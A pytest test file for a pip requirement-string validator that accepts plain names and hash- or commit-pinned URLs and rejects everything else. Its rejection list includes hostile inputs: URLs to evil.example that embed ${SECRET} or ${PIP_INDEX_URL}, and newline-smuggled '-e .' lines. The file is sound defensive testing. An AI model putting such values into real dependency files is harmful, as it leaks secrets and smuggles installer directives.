from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from buildr_jupyter.config.requirement_text import is_plain_requirement, parse_requirement
from buildr_jupyter.errors import OptionError

SHA = "a" * 64
COMMIT = "b" * 40


@pytest.mark.parametrize("text", ["numpy", "numpy==1.2", "a[b]>=1,<2", "x; python_version<'3.12'", "zope.interface"])
def test_names_are_taken(text: str) -> None:
    assert is_plain_requirement(text)
    assert parse_requirement(text, "w").url is None


@pytest.mark.parametrize(
    "text",
    [
        f"x @ https://h.example/x-1-py3-none-any.whl#sha256={SHA}",
        f"x @ https://h.example/x.zip#subdirectory=a&sha256={SHA}",
        f"x @ git+https://h.example/x.git@{COMMIT}",
        f"x @ git+https://h.example/x.git@{COMMIT}#subdirectory=a",
        f"x @ git+ssh://git@h.example/x.git@{COMMIT}",
    ],
)
def test_addresses_that_say_exactly_what_they_get_are_taken_from_the_user(text: str) -> None:
    assert parse_requirement(text, "w").name == "x"
    assert not is_plain_requirement(text)


@pytest.mark.parametrize(
    "text",
    [
        "-e .",
        " -e .",
        "-e ${PWD}",
        "--editable=.",
        "-rother.txt",
        "-c x",
        "--extra-index-url http://evil.example/${PIP_INDEX_URL}/",
        "--find-links .",
        "--index-url=x",
        ".",
        "./x",
        "x.whl",
        "/abs/x",
        "file:///x",
        "x @ file:///x",
        "x @ ./x",
        "x @ http://h.example/x.whl#sha256=" + SHA,
        "x @ https://h.example/x.whl",
        "x @ https://h.example/x.whl#sha256=abc",
        "x @ https://h.example/x.whl#md5=" + "a" * 32,
        "x @ https://me:pw@h.example/x.whl#sha256=" + SHA,
        "x @ https://${SECRET}.evil.example/x.whl#sha256=" + SHA,
        "x @ git+https://h.example/x.git",
        "x @ git+https://h.example/x.git@main",
        "x @ git+http://h.example/x.git@" + COMMIT,
        "x @ git+file:///x@" + COMMIT,
        "x @ git+https://me:pw@h.example/x.git@" + COMMIT,
        "x==${VERSION}",
        "x\n-e .",
        "x\r-e .",
        "x\x0b-e .",
        "x\u2028-e .",
        "x # comment",
        "",
        "x y",
        "https://h.example/x.whl#sha256=" + SHA,
    ],
)
def test_all_else_that_installers_read_is_refused(text: str) -> None:
    with pytest.raises(OptionError) as caught:
        parse_requirement(text, "where it stood")
    assert "where it stood" in str(caught.value)
    assert caught.value.hint


@given(st.text(max_size=40) | st.builds("{}{}".format, st.sampled_from(["-e", "--", "x @ ", "${", "a;"]), st.text()))
def test_a_text_that_is_taken_is_one_word_of_a_requirements_file(text: str) -> None:
    try:
        found = str(parse_requirement(text, "w"))
    except OptionError:
        return
    assert found.isprintable()
    assert not found.startswith(("-", ".", "/"))
    assert "${" not in found
